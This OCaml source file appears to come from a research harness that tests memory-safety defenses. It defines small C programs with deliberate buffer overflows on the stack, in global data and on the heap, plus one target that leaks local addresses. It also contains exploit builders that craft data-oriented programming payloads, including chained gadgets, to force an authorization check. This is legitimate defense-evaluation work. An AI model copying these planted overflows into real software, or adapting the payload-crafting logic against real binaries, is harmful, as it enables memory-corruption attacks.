type variant = {
  vname : string;
  technique : [ `Direct | `Indirect ];
  location : [ `Stack | `Data | `Heap ];
  source : string;
  program : Ir.Prog.t Lazy.t;
  attack : Dopkit.attack;
}

let granted = "GRANTED:"
let benign_output = "denied\n"
let auth_magic = 4919L (* 0x1337 *)

(* ------------------------------------------------------------------ *)
(* Sources                                                             *)

(* Listing-1 shape: the gadget operands are POINTERS, so the attacker's
   virtual machine state lives wherever the pointers aim (here: the
   program's own globals vr0/vr1) and survives across iterations. *)
let stack_direct_src =
  {|
long vr0 = 1;
long vr1 = 0;
long auth = 0;

void serve() {
  long ctr = 0;
  long *size = &vr1;
  long *step = &vr0;
  long req = 0;
  long n = 0;
  char buff[64];
  while (ctr < 8) {
    n = read_input(buff, 4096);
    if (n <= 0) break;
    if (req == 1) *size += *step;
    else if (req == 2) *size -= *step;
    else if (req == 3) *step = *size;
    ctr += 1;
  }
  if (auth == 4919) { print_str("GRANTED:"); print_int(auth); print_newline(); }
  else { print_str("denied"); print_newline(); }
}

int main() { serve(); return 0; }
|}

(* stack-direct with a disclosure preamble: serve() prints every
   local's absolute address — one integer line each, in frame
   declaration order — before its first read.  The deliberately-leaky
   target for the leak-guided attack path: the static analyzer
   (Analysis.Leakan) finds the address-disclosure flows, and the guided
   executor (Offense.Exec.brute_guided) parses the preamble live and
   pins the revealed offsets.  Deliberately NOT in [variants]: its
   output depends on the drawn layout, which would poison the
   deterministic pentest and offense tables. *)
let stack_leaky_src =
  {|
long vr0 = 1;
long vr1 = 0;
long auth = 0;

void serve() {
  long ctr = 0;
  long *size = &vr1;
  long *step = &vr0;
  long req = 0;
  long n = 0;
  char buff[64];
  print_int((long)&ctr); print_newline();
  print_int((long)&size); print_newline();
  print_int((long)&step); print_newline();
  print_int((long)&req); print_newline();
  print_int((long)&n); print_newline();
  print_int((long)&buff); print_newline();
  while (ctr < 8) {
    n = read_input(buff, 4096);
    if (n <= 0) break;
    if (req == 1) *size += *step;
    else if (req == 2) *size -= *step;
    else if (req == 3) *step = *size;
    ctr += 1;
  }
  if (auth == 4919) { print_str("GRANTED:"); print_int(auth); print_newline(); }
  else { print_str("denied"); print_newline(); }
}

int main() { serve(); return 0; }
|}

let stack_indirect_src =
  {|
long g_log = 0;
long auth = 0;

void serve() {
  long stamp = 7;
  long seen = 0;
  long ticks = 0;
  long n = 0;
  char buff[64];
  while (ticks < 8) {
    n = read_input(buff, 4096);
    if (n <= 0) break;
    if (seen == 0) { seen = (long)&g_log; }
    *(long*)seen = stamp;
    ticks += 1;
  }
  if (auth == 4919) { print_str("GRANTED:"); print_int(auth); print_newline(); }
  else { print_str("denied"); print_newline(); }
}

int main() { serve(); return 0; }
|}

let data_direct_src =
  {|
char gbuf[64];
long g_idx = 0;
long g_val = 0;
long g_total = 0;

void serve() {
  long auth = 0;
  long slots[16];
  long rounds = 0;
  long n = 0;
  while (rounds < 8) {
    n = read_input(gbuf, 4096);
    if (n <= 0) break;
    if (g_idx >= 0) slots[g_idx] = g_val;
    g_total += g_val;
    rounds += 1;
  }
  if (auth == 4919) { print_str("GRANTED:"); print_int(auth); print_newline(); }
  else { print_str("denied"); print_newline(); }
}

int main() { serve(); return 0; }
|}

let data_indirect_src =
  {|
char gbuf[64];
long g_out = 0;
long g_stamp = 0;
long g_log = 0;

void serve() {
  long auth = 0;
  long rounds = 0;
  long n = 0;
  long bytes_seen = 0;
  long errs = 0;
  long last = 0;
  char reqid[32];
  if (g_out == 0) g_out = (long)&g_log;
  while (rounds < 8) {
    n = read_input(gbuf, 4096);
    if (n <= 0) break;
    *(long*)g_out = g_stamp;
    bytes_seen += n;
    last = n;
    if (n > 64) errs += 1;
    memcpy(reqid, gbuf, 31);
    rounds += 1;
  }
  if (auth == 4919) { print_str("GRANTED:"); print_int(auth); print_newline(); }
  else { print_str("denied"); print_newline(); }
}

int main() { serve(); return 0; }
|}

let heap_direct_src =
  {|
struct hctl { long idx; long val; };

void serve() {
  long auth = 0;
  long slots[16];
  long rounds = 0;
  long n = 0;
  char *hbuf = (char*)malloc(64);
  struct hctl *ctl = (struct hctl*)malloc(16);
  ctl->idx = 0;
  ctl->val = 0;
  while (rounds < 8) {
    n = read_input(hbuf, 4096);
    if (n <= 0) break;
    if (ctl->idx >= 0) slots[ctl->idx] = ctl->val;
    rounds += 1;
  }
  if (auth == 4919) { print_str("GRANTED:"); print_int(auth); print_newline(); }
  else { print_str("denied"); print_newline(); }
}

int main() { serve(); return 0; }
|}

let heap_indirect_src =
  {|
struct hptr { long out; long stamp; };
long g_log = 0;

void serve() {
  long auth = 0;
  long rounds = 0;
  long n = 0;
  long bytes_seen = 0;
  long errs = 0;
  long last = 0;
  char reqid[32];
  char *hbuf = (char*)malloc(64);
  struct hptr *ctl = (struct hptr*)malloc(16);
  ctl->out = (long)&g_log;
  ctl->stamp = 7;
  while (rounds < 8) {
    n = read_input(hbuf, 4096);
    if (n <= 0) break;
    *(long*)(ctl->out) = ctl->stamp;
    bytes_seen += n;
    last = n;
    if (n > 64) errs += 1;
    memcpy(reqid, hbuf, 31);
    rounds += 1;
  }
  if (auth == 4919) { print_str("GRANTED:"); print_int(auth); print_newline(); }
  else { print_str("denied"); print_newline(); }
}

int main() { serve(); return 0; }
|}

(* ------------------------------------------------------------------ *)
(* Attack helpers                                                      *)

(* Stack-relative offsets of serve()'s locals, from the binary when it
   reveals them, otherwise an Algorithm-1 guess driven by the seed. *)
let serve_offsets applied ~slots ~buffer ~vars ~seed =
  match
    Dopkit.binary_offsets (applied : Defenses.Defense.applied).prog ~func:"serve"
      ~buffer ~vars
  with
  | Some l -> l
  | None -> Dopkit.guessed_offsets ~slots ~buffer ~vars ~fid_slot:true ~seed

let chunk_of layout assignments =
  Attacks.Overflow.craft ~len:1
    (List.map
       (fun (var, v) -> Attacks.Overflow.u64 (List.assoc var layout) v)
       assignments)

let global_addr prog name =
  match List.assoc_opt name (Attacks.Layout.global_addrs prog) with
  | Some a -> Int64.of_int a
  | None -> invalid_arg ("Apps.Synth: no global " ^ name)

(* stack-direct: a genuine DOP computation.  Build auth = 0x1337 in the
   attacker's virtual registers (the program's vr0/vr1 cells) with
   double-and-add ADD gadgets, then ADD it into the auth global —
   roughly 20 chained gadget invocations, each dispatched by one
   overflow that re-aims the operand pointers and pins the loop
   counter. *)
let stack_direct_slots =
  [
    ("ctr", 8, 8); ("size", 8, 8); ("step", 8, 8); ("req", 8, 8); ("n", 8, 8);
    ("buff", 64, 1);
  ]

let stack_direct_chunks (applied : Defenses.Defense.applied) ~seed =
  let layout =
    serve_offsets applied ~slots:stack_direct_slots ~buffer:"buff"
      ~vars:[ "ctr"; "size"; "step"; "req" ] ~seed
  in
  let vr0 = global_addr applied.prog "vr0" in
  let vr1 = global_addr applied.prog "vr1" in
  let auth = global_addr applied.prog "auth" in
  (* one ADD gadget invocation: *dst += *src *)
  let add ~dst ~src =
    chunk_of layout [ ("req", 1L); ("size", dst); ("step", src); ("ctr", 0L) ]
  in
  let target = Int64.to_int auth_magic in
  (* vr0 = 1 (initial), vr1 = 0: double-and-add MSB-first *)
  let bits = List.init 13 (fun i -> (target lsr (12 - i)) land 1) in
  List.concat_map
    (fun bit ->
      add ~dst:vr1 ~src:vr1
      :: (if bit = 1 then [ add ~dst:vr1 ~src:vr0 ] else []))
    bits
  @ [ add ~dst:auth ~src:vr1 ]

let stack_indirect_slots =
  [ ("stamp", 8, 8); ("seen", 8, 8); ("ticks", 8, 8); ("n", 8, 8); ("buff", 64, 1) ]

let stack_indirect_chunks (applied : Defenses.Defense.applied) ~seed =
  let layout =
    serve_offsets applied ~slots:stack_indirect_slots ~buffer:"buff"
      ~vars:[ "stamp"; "seen"; "ticks" ] ~seed
  in
  let auth = global_addr applied.prog "auth" in
  (* corrupt the pointer ("seen") first, then the program's own
     *seen = stamp write does the damage — RIPE's indirect mode *)
  [ chunk_of layout [ ("stamp", auth_magic); ("seen", auth); ("ticks", 0L) ] ]

(* data/heap variants need the distance from the stack array to the
   auth local — the quantity Smokestack randomizes per call. *)
let stack_write_params applied ~slots ~seed =
  let layout = serve_offsets applied ~slots ~buffer:"slots" ~vars:[ "auth" ] ~seed in
  let rel = List.assoc "auth" layout in
  if rel < 0 || rel mod 8 <> 0 then
    invalid_arg "auth not reachable as a positive slot index"
  else Int64.of_int (rel / 8)

let data_heap_slots =
  [ ("auth", 8, 8); ("slots", 128, 8); ("rounds", 8, 8); ("n", 8, 8) ]

let data_direct_chunks (applied : Defenses.Defense.applied) ~seed =
  let idx = stack_write_params applied ~slots:data_heap_slots ~seed in
  let gaddrs = Attacks.Layout.global_addrs applied.prog in
  let gbuf = List.assoc "gbuf" gaddrs in
  let rel name = List.assoc name gaddrs - gbuf in
  [
    Attacks.Overflow.craft ~len:1
      [
        Attacks.Overflow.u64 (rel "g_idx") idx;
        Attacks.Overflow.u64 (rel "g_val") auth_magic;
      ];
  ]

(* Absolute address of a local in serve()'s frame: frame placement is
   deterministic (main has no frame), so the binary yields it — except
   the intra-slab position under Smokestack, which must be guessed. *)
let absolute_local_addr applied ~slots ~var ~seed =
  let prog = (applied : Defenses.Defense.applied).prog in
  let rows = Attacks.Layout.chain prog [ "main"; "serve" ] in
  let direct =
    List.find_map
      (fun (f, v, off) -> if f = "serve" && v = var then Some off else None)
      rows
  in
  match direct with
  | Some off -> Int64.of_int (Machine.Exec.default_stack_top + off)
  | None ->
      (* Smokestack binary: find the opaque slab, guess within it. *)
      let slab =
        List.find_map
          (fun (f, v, off) ->
            if f = "serve" && v = "__ss_total" then Some off else None)
          rows
      in
      (match slab with
      | None -> invalid_arg "no frame information at all"
      | Some off ->
          let in_slab =
            List.assoc var
              (Dopkit.guessed_slab_offsets ~slots ~vars:[ var ] ~fid_slot:true ~seed)
          in
          Int64.of_int (Machine.Exec.default_stack_top + off + in_slab))

let data_indirect_slots =
  [ ("auth", 8, 8); ("rounds", 8, 8); ("n", 8, 8); ("bytes_seen", 8, 8);
    ("errs", 8, 8); ("last", 8, 8); ("reqid", 32, 1) ]

let data_indirect_chunks (applied : Defenses.Defense.applied) ~seed =
  let auth_addr =
    absolute_local_addr applied ~slots:data_indirect_slots ~var:"auth" ~seed
  in
  let gaddrs = Attacks.Layout.global_addrs applied.prog in
  let gbuf = List.assoc "gbuf" gaddrs in
  let rel name = List.assoc name gaddrs - gbuf in
  [
    Attacks.Overflow.craft ~len:1
      [
        Attacks.Overflow.u64 (rel "g_out") auth_addr;
        Attacks.Overflow.u64 (rel "g_stamp") auth_magic;
      ];
  ]

(* Heap adjacency: the VM's bump allocator places the 16-byte control
   block right after the 64-byte buffer (16-byte aligned) — the
   determinism heap sprays rely on. *)
let heap_ctl_rel = 64

let heap_direct_slots =
  [ ("auth", 8, 8); ("slots", 128, 8); ("rounds", 8, 8); ("n", 8, 8);
    ("hbuf", 8, 8); ("ctl", 8, 8) ]

let heap_direct_chunks applied ~seed =
  let idx = stack_write_params applied ~slots:heap_direct_slots ~seed in
  [
    Attacks.Overflow.craft ~len:1
      [
        Attacks.Overflow.u64 heap_ctl_rel idx;
        Attacks.Overflow.u64 (heap_ctl_rel + 8) auth_magic;
      ];
  ]

let heap_indirect_slots =
  [ ("auth", 8, 8); ("rounds", 8, 8); ("n", 8, 8); ("bytes_seen", 8, 8);
    ("errs", 8, 8); ("last", 8, 8); ("reqid", 32, 1); ("hbuf", 8, 8);
    ("ctl", 8, 8) ]

let heap_indirect_chunks applied ~seed =
  let auth_addr =
    absolute_local_addr applied ~slots:heap_indirect_slots ~var:"auth" ~seed
  in
  [
    Attacks.Overflow.craft ~len:1
      [
        Attacks.Overflow.u64 heap_ctl_rel auth_addr;
        Attacks.Overflow.u64 (heap_ctl_rel + 8) auth_magic;
      ];
  ]

(* ------------------------------------------------------------------ *)

let mk vname technique location source craft =
  let attack ~backend applied ~seed =
    Dopkit.deliver ~backend applied ~seed ~marker:granted (fun () ->
        craft applied ~seed)
  in
  {
    vname;
    technique;
    location;
    source;
    program = lazy (Minic.Driver.compile source);
    attack;
  }

let variants =
  [
    mk "stack-direct" `Direct `Stack stack_direct_src stack_direct_chunks;
    mk "stack-indirect" `Indirect `Stack stack_indirect_src stack_indirect_chunks;
    mk "data-direct" `Direct `Data data_direct_src data_direct_chunks;
    mk "data-indirect" `Indirect `Data data_indirect_src data_indirect_chunks;
    mk "heap-direct" `Direct `Heap heap_direct_src heap_direct_chunks;
    mk "heap-indirect" `Indirect `Heap heap_indirect_src heap_indirect_chunks;
  ]

(* Findable but not enumerated: the disclosing target's output is
   layout-dependent, so it must stay out of every table that iterates
   [variants].  Its blind hand attack is stack-direct's — the frames
   are identical — which anchors the guided-vs-blind comparison. *)
let hidden =
  [ mk "stack-leaky" `Direct `Stack stack_leaky_src stack_direct_chunks ]

let find name =
  List.find_opt (fun v -> String.equal v.vname name) (variants @ hidden)
